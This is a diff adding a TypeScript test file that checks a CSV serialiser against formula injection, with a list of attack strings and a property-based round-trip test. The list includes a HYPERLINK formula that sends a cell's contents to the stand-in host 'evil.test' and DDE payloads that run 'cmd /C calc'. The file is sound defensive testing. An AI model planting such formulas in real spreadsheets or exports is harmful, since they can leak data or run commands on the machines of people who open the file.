@@ -1,0 +1,41 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { parse } from 'csv-parse/sync'
+import fc from 'fast-check'
+import { toCsvLine } from './csv.ts'
+
+const read = (text: string): string[][] => parse(text, { relaxColumnCount: true }) as string[][]
+
+test('T6 no cell of somebody’s words is a formula, in whatever way it begins', () => {
+  const attacks = [
+    ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)'],
+    ...['=HYPERLINK("http://evil.test?"&A1,"Click")', "=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")'],
+    ...['"=1+1"', '=1+1";=1+1', '=1+1,=1+1', "'=1+1"],
+  ]
+  for (const attack of attacks) {
+    const rows = read(toCsvLine(['before', attack, 'behind']))
+    assert.equal(rows.length, 1, attack)
+    assert.equal(rows[0]?.length, 3, attack)
+    for (const cell of rows.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r\n＝＋－＠]/, attack)
+    assert.ok(rows[0]?.[1]?.endsWith(attack), 'what was said is there')
+  }
+})
+
+test('T6 whatever the cells hold, a reader finds as many, with the same words', () => {
+  const cell = fc.oneof(
+    fc.string({ unit: 'grapheme' }),
+    fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '"', ',', ';', '\t', '\r', '\n', ' ', "'", 'a') }),
+  )
+  fc.assert(
+    fc.property(fc.array(cell, { minLength: 2, maxLength: 6 }), (cells) => {
+      const rows = read(toCsvLine(['first', ...cells]))
+      assert.equal(rows.length, 1)
+      const [, ...found] = rows[0] ?? []
+      assert.deepEqual(
+        found.map((one, i) => (one === `'${cells[i]}` ? cells[i] : one)),
+        cells,
+      )
+      for (const one of found) assert.doesNotMatch(one, /^[=+\-@\t\r\n＝＋－＠]/)
+    }),
+  )
+})
